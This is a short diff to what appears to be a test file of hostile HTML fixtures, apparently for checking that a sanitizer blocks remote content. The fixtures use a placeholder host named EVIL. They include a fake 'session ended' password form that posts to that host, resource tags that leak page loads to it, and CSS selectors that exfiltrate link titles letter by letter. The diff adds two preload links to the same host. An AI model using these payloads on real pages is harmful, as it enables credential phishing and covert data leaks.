@@ -18,7 +18,9 @@ FORM = f"""<form class="evil" action="{EVIL}/" method="post">
 Your session has ended. <input name="password" type="password"> <button>Log in</button></form>"""
 
 LEAK = f"""<img src="{EVIL}/pixel.gif"><link rel="stylesheet" href="{EVIL}/leak.css">
-<iframe src="{EVIL}/frame"></iframe><video src="{EVIL}/film.mp4"></video><style>""" + "".join(
+<iframe src="{EVIL}/frame"></iframe><video src="{EVIL}/film.mp4"></video>
+<link rel="preload" as="font" crossorigin href="{EVIL}/font.woff2">
+<link rel="preload" as="fetch" crossorigin href="{EVIL}/data.json"><style>""" + "".join(
     f'nav a[title^="{letter}"] {{ background: url({EVIL}/reader-begins-with-{letter}) }}'
     for letter in ascii_lowercase
 )
